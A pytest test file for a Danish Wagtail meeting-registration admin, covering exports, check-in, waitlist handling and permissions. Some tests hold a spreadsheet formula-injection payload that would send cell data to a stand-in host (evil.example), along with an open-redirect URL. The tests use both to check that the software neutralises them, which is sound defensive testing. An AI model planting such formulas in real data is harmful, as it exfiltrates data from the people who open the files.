"""The editors' side: registrations in the Wagtail admin, exports, check-in, moving from
the waitlist, the printable list and the summary on the meeting's edit page."""

import csv
import datetime
import io
import re

import openpyxl
import pytest
from django.contrib.auth.models import Group, Permission
from django.core import mail
from django.core.exceptions import PermissionDenied

from meetings import services
from meetings.models import Registration
from portal.factories import UserFactory
from tests.csrf import form_token


def text(response) -> str:
    return re.sub(r"\s+", " ", response.content.decode())


@pytest.fixture
def editor(db):
    user = UserFactory(is_staff=True, verified=True)
    user.groups.add(Group.objects.get(name="Editors"))
    return user


@pytest.fixture
def filled_meeting(make_meeting, member_org, non_member_org, person_at):
    """Capacity 3: Aarhus 2 confirmed, Esbjerg's trial confirmed, Odense waitlisted."""
    meeting = make_meeting(title="Decembermødet", capacity=3, trial_places=1)
    aarhus = member_org("Aarhus Kommune")
    odense = member_org("Odense Kommune")
    esbjerg = non_member_org("Esbjerg Kommune")
    services.register(
        meeting=meeting,
        person=person_at(aarhus, first_name="Anna", last_name="Aarhus"),
        organisation=aarhus,
        answers={"dietary_needs": "Vegetar", "accessibility_needs": "Kørestol"},
    )
    services.register(
        # Named, so no random Danish first name collides with "Anna" below.
        meeting=meeting,
        person=person_at(aarhus, first_name="Bent", last_name="Aarhus"),
        organisation=aarhus,
    )
    services.register(
        meeting=meeting,
        person=person_at(esbjerg, first_name="Erik", last_name="Esbjerg"),
        organisation=esbjerg,
        trial=True,
    )
    services.register(
        meeting=meeting,
        person=person_at(odense, first_name="Ole", last_name="Odense"),
        organisation=odense,
    )
    return meeting


def test_the_meeting_edit_page_shows_the_registration_summary(client, editor, filled_meeting):
    client.force_login(editor)
    page = text(client.get(f"/admin/pages/{filled_meeting.pk}/edit/"))
    assert "3 af 3 pladser bekræftet" in page
    assert "1 på venteliste" in page
    assert "1 af 1 prøvepladser brugt" in page
    assert f"/admin/meetings/{filled_meeting.pk}/participants/" in page
    assert f"/admin/meetings/registrations/door/{filled_meeting.pk}/" in page


def test_registrations_listing_filters_by_meeting_status_kind_and_organisation(
    client,
    editor,
    filled_meeting,
    make_meeting,
    member_org,
    person_at,
    django_assert_max_num_queries,
):
    other = make_meeting(title="Et andet møde")
    org = member_org()
    elsewhere = services.register(meeting=other, person=person_at(org), organisation=org)
    client.force_login(editor)
    base = f"/admin/meetings/registrations/?meeting={filled_meeting.pk}"

    with django_assert_max_num_queries(40):
        page = text(client.get(base))
    for registration in Registration.objects.filter(meeting=filled_meeting):
        assert action("cancel", registration) in page
    assert action("cancel", elsewhere) not in page
    assert page.count(">Tjek ind</button>") == 3  # the confirmed ones
    assert page.count(">Bekræft fra venteliste</button>") == 1

    waitlisted = text(client.get(base + "&status=waitlisted"))
    assert "Ole Odense" in waitlisted and "Anna Aarhus" not in waitlisted
    assert "Mødet er fuldt." in waitlisted
    trial = text(client.get(base + "&kind=trial"))
    assert "Erik Esbjerg" in trial and "Anna Aarhus" not in trial
    esbjerg = Registration.objects.get(kind="trial").organisation
    by_org = text(client.get(base + f"&organisation={esbjerg.pk}"))
    assert "Erik Esbjerg" in by_org and "Ole Odense" not in by_org


def test_participant_export_as_csv_and_xlsx_with_names_organisations_and_answers(
    client, editor, filled_meeting
):
    client.force_login(editor)
    base = f"/admin/meetings/registrations/?meeting={filled_meeting.pk}&status=confirmed"

    response = client.get(base + "&export=csv")
    assert response.status_code == 200
    assert "deltagere-" in response["Content-Disposition"]
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")  # spreadsheet programs read æøå right
    rows = list(csv.DictReader(io.StringIO(content.lstrip("\ufeff")), delimiter=";"))
    assert len(rows) == 3
    anna = next(row for row in rows if row["Fornavn"] == "Anna")
    assert anna["Efternavn"] == "Aarhus"
    assert anna["Organisation"] == "Aarhus Kommune"
    assert anna["Kosthensyn"] == "Vegetar"
    assert anna["Behov for tilgængelighed"] == "Kørestol"
    assert anna["Status"] == "Bekræftet"

    response = client.get(base + "&export=xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    assert header[:5] == ["Fornavn", "Efternavn", "E-mail", "Stilling", "Organisation"]
    assert sheet.max_row == 4


def test_participant_export_shows_copenhagen_time(client, editor, filled_meeting):
    anna = Registration.objects.get(person__first_name="Anna", person__last_name="Aarhus")
    Registration.objects.filter(pk=anna.pk).update(
        created_at=datetime.datetime(2026, 6, 1, 22, 30, tzinfo=datetime.UTC)
    )
    client.force_login(editor)
    base = f"/admin/meetings/registrations/?meeting={filled_meeting.pk}&status=confirmed"

    response = client.get(base + "&export=csv")
    content = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    row = next(
        r for r in csv.DictReader(io.StringIO(content), delimiter=";") if r["Fornavn"] == "Anna"
    )
    assert row["Tilmeldt"] == "02.06.2026 00:30"  # not "2026-06-01 22:30:00+00:00"

    response = client.get(base + "&export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    anna_row = next(r for r in rows if r[0] == "Anna")
    assert anna_row[header.index("Tilmeldt")] == datetime.datetime(2026, 6, 2, 0, 30)


LISTING = "/admin/meetings/registrations/"


def action(slug: str, registration) -> str:
    return f"/admin/meetings/registrations/{slug}/{registration.pk}/"


def test_the_check_in_search_is_a_named_landmark_and_check_in_times_read_danish(
    client, editor, filled_meeting
):
    anna = filled_meeting.registrations.get(person__first_name="Anna")
    anna.attended_at = datetime.datetime(2030, 3, 10, 8, 5, tzinfo=datetime.UTC)
    anna.save(update_fields=["attended_at"])
    client.force_login(editor)
    page = text(client.get(f"/admin/meetings/registrations/door/{filled_meeting.pk}/"))
    # A screen reader's landmark list names the search ("Søg deltager"), not just "search".
    assert re.search(r'<form[^>]*role="search"[^>]*aria-label="Søg deltager"', page)
    assert "✓ Tjekket ind 9.05" in page


def test_check_in_and_undo_from_the_listing_row(client, editor, filled_meeting):
    client.force_login(editor)
    anna = Registration.objects.get(person__first_name="Anna", person__last_name="Aarhus")
    listing = f"{LISTING}?meeting={filled_meeting.pk}"

    # The row's form carries a CSRF token (client.submit fails otherwise) and goes back.
    response = client.submit(action("check-in", anna), {"next": listing}, page=listing)

    assert response.status_code == 302
    assert response["Location"] == listing
    anna.refresh_from_db()
    assert anna.attended
    page = text(client.get(listing))
    assert "Anna Aarhus er tjekket ind." in page
    assert page.count(">Tjek ind</button>") == 2  # Bent and Erik still to come
    assert ">Fortryd indtjekning</button>" in page

    client.submit(action("undo-check-in", anna), page=listing)
    anna.refresh_from_db()
    assert not anna.attended


def test_a_row_action_without_a_csrf_token_is_refused(client, editor, filled_meeting):
    client.force_login(editor)
    anna = Registration.objects.get(person__first_name="Anna", person__last_name="Aarhus")
    response = client.post(action("check-in", anna))
    assert response.status_code == 403
    anna.refresh_from_db()
    assert not anna.attended


def test_pressing_check_in_twice_changes_nothing_and_says_so(client, editor, filled_meeting):
    client.force_login(editor)
    anna = Registration.objects.get(person__first_name="Anna", person__last_name="Aarhus")
    listing = f"{LISTING}?meeting={filled_meeting.pk}"
    client.submit(action("check-in", anna), page=listing)
    first = Registration.objects.get(pk=anna.pk).attended_at

    # A second press on the same row form (a double tap at the door).
    token = form_token(
        client.get(listing).content.decode(), action=action("undo-check-in", anna), page=listing
    )
    response = client.post(
        action("check-in", anna), {"csrfmiddlewaretoken": token, "next": listing}, follow=True
    )

    assert Registration.objects.get(pk=anna.pk).attended_at == first
    assert "Anna Aarhus var allerede tjekket ind; intet er ændret." in text(response)


def test_move_from_the_waitlist_by_hand_tells_the_person(
    client, editor, filled_meeting, django_capture_on_commit_callbacks
):
    client.force_login(editor)
    ole = Registration.objects.get(person__first_name="Ole")
    listing = f"{LISTING}?meeting={filled_meeting.pk}"

    with django_capture_on_commit_callbacks(execute=True):
        response = client.submit(action("confirm", ole), page=listing, follow=True)

    ole.refresh_from_db()
    assert ole.is_confirmed
    assert "er rykket fra ventelisten til en bekræftet plads" in text(response)
    assert mail.outbox[-1].to == [ole.person.email]


def test_an_editor_cancels_after_confirming_and_the_waitlist_moves_up(
    client, editor, filled_meeting
):
    client.force_login(editor)
    anna = Registration.objects.get(person__first_name="Anna", person__last_name="Aarhus")
    listing = f"{LISTING}?meeting={filled_meeting.pk}"
    # The row's "Afmeld" is a link to a confirmation page, not an instant cancel.
    assert f'href="{action("cancel", anna)}?next=' in client.get(listing).content.decode()
    confirm_page = f"{action('cancel', anna)}?next={listing}"
    question = text(client.get(confirm_page))
    assert "Afmeld Anna Aarhus? Vedkommende får besked på e-mail" in question
    anna.refresh_from_db()
    assert anna.is_active  # opening the page cancels nothing

    response = client.submit(action("cancel", anna), {"next": listing}, page=confirm_page)

    assert response["Location"] == listing
    anna.refresh_from_db()
    assert anna.status == Registration.Status.CANCELLED
    assert anna.cancelled_by == editor
    assert Registration.objects.get(person__first_name="Ole").is_confirmed


def test_a_foreign_next_address_is_not_followed(client, editor, filled_meeting):
    client.force_login(editor)
    anna = Registration.objects.get(person__first_name="Anna", person__last_name="Aarhus")
    response = client.submit(
        action("check-in", anna), {"next": "https://evil.example/"}, page=action("check-in", anna)
    )
    assert response["Location"] == f"{LISTING}?meeting={filled_meeting.pk}"


def test_check_in_at_the_door_finds_a_person_and_checks_them_in(
    client, editor, filled_meeting, django_assert_max_num_queries
):
    client.force_login(editor)
    door = f"/admin/meetings/registrations/door/{filled_meeting.pk}/"
    listing = text(client.get(f"{LISTING}?meeting={filled_meeting.pk}"))
    assert f'href="{door}"' in listing  # the listing of one meeting links to it

    with django_assert_max_num_queries(15):
        page = text(client.get(door + "?q=bent"))
    assert "0 af 3 tjekket ind" in page
    assert "Bent Aarhus" in page and "Anna Aarhus" not in page
    bent = Registration.objects.get(person__first_name="Bent")

    response = client.submit(action("check-in", bent), {"next": door}, page=door + "?q=bent")

    assert response["Location"] == door  # back to an empty search for the next person
    page = text(client.get(door))
    assert "Bent Aarhus er tjekket ind." in page
    assert "1 af 3 tjekket ind" in page
    # The waitlist is there too, with the button to give Ole a seat at the door.
    ole = Registration.objects.get(person__first_name="Ole")
    assert f'action="{action("confirm", ole)}"' in client.get(door).content.decode()


def test_printable_participant_list(client, editor, filled_meeting):
    client.force_login(editor)
    page = text(client.get(f"/admin/meetings/{filled_meeting.pk}/participants/"))
    assert "Decembermødet" in page
    assert "Bekræftet: 3 af 3 · Venteliste: 1 · Prøvemøde: 1" in page
    confirmed, waitlist = page.split("<h2>Venteliste</h2>")
    assert "Anna Aarhus" in confirmed and "Kosthensyn: Vegetar" in confirmed
    assert "Ole Odense" in waitlist and "Mødet er fuldt." in waitlist
    assert 'href="/static/meetings/participants.css"' in page


def test_an_editor_registers_someone_by_hand_under_the_same_rules(
    client, editor, filled_meeting, member_org, person_at
):
    client.force_login(editor)
    org = member_org("Vejle Kommune")
    person = person_at(org, first_name="Vera", last_name="Vejle")

    response = client.submit(
        "/admin/meetings/registrations/new/",
        {
            "meeting": filled_meeting.pk,
            "person": person.pk,
            "organisation": org.pk,
            "dietary_needs": "",
            "accessibility_needs": "",
            "joins_dinner": "",
        },
        follow=True,
    )

    registration = Registration.objects.get(person=person)
    assert registration.is_waitlisted  # the meeting is full
    assert registration.registered_by == editor
    assert "Vera Vejle er på venteliste: Mødet er fuldt." in text(response)


def test_people_without_permission_get_no_registrations(
    client, filled_meeting, member_org, person_at
):
    member = person_at(member_org())
    client.force_login(member)
    for url in (
        "/admin/meetings/registrations/",
        f"/admin/meetings/{filled_meeting.pk}/participants/",
        f"/admin/meetings/registrations/door/{filled_meeting.pk}/",
    ):
        response = client.get(url)
        assert response.status_code in (302, 403)


def test_an_action_that_no_longer_applies_says_what_the_registration_is_now(
    client, editor, filled_meeting
):
    client.force_login(editor)
    ole = Registration.objects.get(person__first_name="Ole")
    listing = f"{LISTING}?meeting={filled_meeting.pk}"
    token = form_token(
        client.get(listing).content.decode(), action=action("confirm", ole), page=listing
    )
    services.cancel(registration=ole, cancelled_by=ole.person)  # meanwhile, Ole cancels

    response = client.post(
        action("confirm", ole), {"csrfmiddlewaretoken": token, "next": listing}, follow=True
    )

    assert "Intet er ændret: tilmeldingen for Ole Odense er afmeldt." in text(response)
    ole.refresh_from_db()
    assert ole.status == Registration.Status.CANCELLED


def test_viewers_see_the_listing_but_no_buttons_and_cannot_act(client, filled_meeting):
    """Permission to view registrations is not permission to change them: no buttons,
    and the action refuses even a well-formed POST."""
    viewers = Group.objects.create(name="Mødeværter")
    viewers.permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="view_registration"),
    )
    viewer = UserFactory(verified=True)
    viewer.groups.add(viewers)
    client.force_login(viewer)
    anna = Registration.objects.get(person__first_name="Anna", person__last_name="Aarhus")

    listing = client.get(f"{LISTING}?meeting={filled_meeting.pk}")
    assert listing.status_code == 200
    assert "Anna Aarhus" in text(listing)
    assert ">Tjek ind</button>" not in text(listing)
    # Wagtail answers a refused admin view with a redirect to the dashboard and a message.
    assert client.get(action("check-in", anna)).status_code in (302, 403)
    door = f"/admin/meetings/registrations/door/{filled_meeting.pk}/"
    assert client.get(door).status_code in (302, 403)
    token = client.cookies["csrftoken"].value
    response = client.post(action("check-in", anna), {"csrfmiddlewaretoken": token})
    assert response.status_code in (302, 403)
    anna.refresh_from_db()
    assert not anna.attended
    with pytest.raises(PermissionDenied):
        services.check_in(registration=anna, checked_in_by=viewer)


def test_the_page_listing_links_to_the_meetings_registrations(client, editor, filled_meeting):
    client.force_login(editor)
    page = text(client.get(f"/admin/pages/{filled_meeting.get_parent().pk}/"))
    assert f"/admin/meetings/registrations/?meeting={filled_meeting.pk}" in page
    assert f"/admin/meetings/registrations/door/{filled_meeting.pk}/" in page


def test_raising_the_capacity_and_publishing_fills_seats_from_the_waitlist(
    client, filled_meeting, django_capture_on_commit_callbacks
):
    from wagtail.test.utils.form_data import inline_formset, nested_form_data, streamfield

    moderator = UserFactory(is_staff=True, verified=True)
    moderator.groups.add(Group.objects.get(name="Moderators"))  # Editors may not publish
    client.force_login(moderator)
    meeting = filled_meeting
    data = nested_form_data(
        {
            "title": meeting.title,
            "slug": meeting.slug,
            "start": meeting.local_start.strftime("%Y-%m-%d %H:%M"),
            "end": meeting.local_end.strftime("%Y-%m-%d %H:%M"),
            "status": "planned",
            "lead": meeting.lead,
            "practical_information": "",
            "programme": streamfield([]),
            "audience": meeting.audience,
            "capacity": 4,
            "seats_per_organisation": 2,
            "trial_places": 1,
            "ask_dietary_needs": "on",
            "ask_accessibility_needs": "on",
            "materials_audience": "members",
            "materials": inline_formset([]),
            "comments": inline_formset([]),
            "action-publish": "action-publish",
        }
    )
    data["practical_information"] = '{"blocks": [], "entityMap": {}}'

    with django_capture_on_commit_callbacks(execute=True):
        response = client.submit(f"/admin/pages/{meeting.pk}/edit/", data, follow=True)

    assert "1 person er rykket fra ventelisten til en bekræftet plads." in text(response)
    assert Registration.objects.get(person__first_name="Ole").is_confirmed
    assert mail.outbox[-1].to == [Registration.objects.get(person__first_name="Ole").person.email]


def test_search_registrations_by_name(client, editor, filled_meeting):
    client.force_login(editor)
    page = text(client.get("/admin/meetings/registrations/?q=Odense"))
    ole = Registration.objects.get(person__first_name="Ole")
    anna = Registration.objects.get(person__first_name="Anna", person__last_name="Aarhus")
    assert action("cancel", ole) in page
    assert action("cancel", anna) not in page


LONG_NOTE = (
    "Glutenfri og laktosefri kost, ingen nødder eller sesam, gerne vegetarisk, "
    "og frokosten bedes serveret separat på grund af alvorlig allergi."
)


def test_long_answers_are_cut_in_the_listing_but_whole_in_the_exports(
    client, editor, filled_meeting
):
    Registration.objects.filter(person__first_name="Anna", person__last_name="Aarhus").update(
        dietary_needs=LONG_NOTE
    )
    client.force_login(editor)
    base = f"/admin/meetings/registrations/?meeting={filled_meeting.pk}&status=confirmed"

    listing = text(client.get(base))
    assert LONG_NOTE not in listing
    shortened = re.search(r"Kosthensyn: ([^;<]*…)", listing)
    assert shortened, "the long note is shown shortened, ending in …"
    assert len(shortened.group(1)) <= 60
    assert LONG_NOTE.startswith(shortened.group(1)[:40])
    assert "Behov for tilgængelighed: Kørestol" in listing  # short answers stay whole

    response = client.get(base + "&export=csv")
    content = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    row = next(
        r for r in csv.DictReader(io.StringIO(content), delimiter=";") if r["Fornavn"] == "Anna"
    )
    assert row["Kosthensyn"] == LONG_NOTE

    response = client.get(base + "&export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert LONG_NOTE in [cell.value for row in sheet.iter_rows() for cell in row]

    printable = text(client.get(f"/admin/meetings/{filled_meeting.pk}/participants/"))
    assert LONG_NOTE in printable


INJECTION = '=HYPERLINK("https://evil.example/?x="&A1,"Klik")'


@pytest.fixture
def guest_and_injection(filled_meeting):
    """A guest without an organisation, and formulas typed into a job title and an answer."""
    anna = Registration.objects.get(person__first_name="Anna", person__last_name="Aarhus")
    anna.person.job_title = INJECTION
    anna.person.save(update_fields=["job_title"])
    Registration.objects.filter(pk=anna.pk).update(dietary_needs="@SUM(1+1)")
    guest = UserFactory(verified=True, first_name="Gustav", last_name="Gæst", job_title="-")
    return Registration.objects.create(
        meeting=filled_meeting,
        person=guest,
        organisation=None,
        kind=Registration.Kind.GUEST,
        status=Registration.Status.CONFIRMED,
    )


def test_csv_export_is_complete_with_a_guest_and_safe_in_danish_excel(
    client, editor, filled_meeting, guest_and_injection
):
    client.force_login(editor)
    response = client.get(f"{LISTING}?meeting={filled_meeting.pk}&export=csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads æ, ø and å right
    content = raw.decode("utf-8-sig")
    header = content.splitlines()[0]
    assert header.startswith("Fornavn;Efternavn;E-mail;Stilling;Organisation;Møde;")
    rows = list(csv.DictReader(io.StringIO(content), delimiter=";"))
    assert len(rows) == 5  # every registration, the guest included: not cut off
    gustav = next(r for r in rows if r["Fornavn"] == "Gustav")
    assert gustav["Organisation"] == ""
    assert gustav["Stilling"] == "'-"
    assert rows[-1]["Tilmeldt"]  # the last row is whole
    anna = next(r for r in rows if r["Fornavn"] == "Anna")
    assert anna["Stilling"] == "'" + INJECTION  # shown as text, never run
    assert anna["Kosthensyn"] == "'@SUM(1+1)"
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def test_xlsx_export_is_complete_with_a_guest_and_has_text_not_formulas(
    client, editor, filled_meeting, guest_and_injection
):
    client.force_login(editor)
    response = client.get(f"{LISTING}?meeting={filled_meeting.pk}&export=xlsx")

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert len(rows) == 5
    assert rows["Gustav"][header.index("Organisation")].value is None
    title = rows["Anna"][header.index("Stilling")]
    assert title.value == INJECTION  # the text as typed …
    assert title.data_type == "s"  # … stored as text, not as a formula ("f")
    assert title.quotePrefix  # and marked as typed text, so editing it keeps it text
    assert rows["Anna"][header.index("Kosthensyn")].data_type == "s"


@pytest.mark.parametrize("extra", [0, 60])
def test_registrations_listing_queries_do_not_grow_with_the_rows(
    client, editor, filled_meeting, member_org, person_at, extra, django_assert_max_num_queries
):
    """Pinned at 4 and at 64 rows of one meeting: 16 queries for the listing and 8 for
    the export in both cases (measured), so the ceilings catch a query per row."""
    for _ in range(extra // 2):
        org = member_org()
        for _ in range(2):
            services.register(meeting=filled_meeting, person=person_at(org), organisation=org)
    client.force_login(editor)
    client.get(f"{LISTING}?meeting={filled_meeting.pk}")  # warm caches, as a running site's
    with django_assert_max_num_queries(18):
        response = client.get(f"{LISTING}?meeting={filled_meeting.pk}")
    assert response.status_code == 200
    with django_assert_max_num_queries(10):
        export = client.get(f"{LISTING}?meeting={filled_meeting.pk}&export=csv")
        rows = b"".join(export.streaming_content).decode("utf-8-sig").splitlines()
    assert len(rows) == 1 + 4 + extra


def test_a_press_on_searched_rows_comes_back_to_the_whole_listing(client, editor, filled_meeting):
    """Typing in the listing's search box fetches the rows from results/ (a fragment);
    their forms carry the token and send the coordinator back to the whole page."""
    client.force_login(editor)
    bent = Registration.objects.get(person__first_name="Bent")
    results = f"{LISTING}results/?meeting={filled_meeting.pk}&q=Bent"
    fragment = client.get(results).content.decode()
    back = f"{LISTING}?meeting={filled_meeting.pk}&amp;q=Bent"
    assert f'name="next" value="{back}"' in fragment

    response = client.submit(
        action("check-in", bent), {"next": back.replace("&amp;", "&")}, page=results
    )

    assert response["Location"] == back.replace("&amp;", "&")
    bent.refresh_from_db()
    assert bent.attended


def test_a_registration_by_hand_the_rules_refuse_shows_the_reason_not_a_500(
    client, editor, make_meeting, non_member_org, person_at
):
    """Found by QA on `make run`: registering a non-member for a members' meeting by hand
    answered 500 (AttributeError produced_error_message) instead of the rule's reason."""
    client.force_login(editor)
    meeting = make_meeting(title="Medlemsmødet", capacity=10)
    org = non_member_org("Esbjerg Kommune")
    person = person_at(org, first_name="Eva", last_name="Esbjerg")

    response = client.submit(
        "/admin/meetings/registrations/new/",
        {
            "meeting": meeting.pk,
            "person": person.pk,
            "organisation": org.pk,
            "dietary_needs": "Vegetar",
            "accessibility_needs": "",
            "joins_dinner": "",
        },
    )

    assert response.status_code == 200
    page = text(response)
    assert "Mødet er for netværkets medlemmer." in page
    assert 'value="Vegetar"' in page  # what the editor typed is still there
    assert not Registration.objects.filter(person=person).exists()
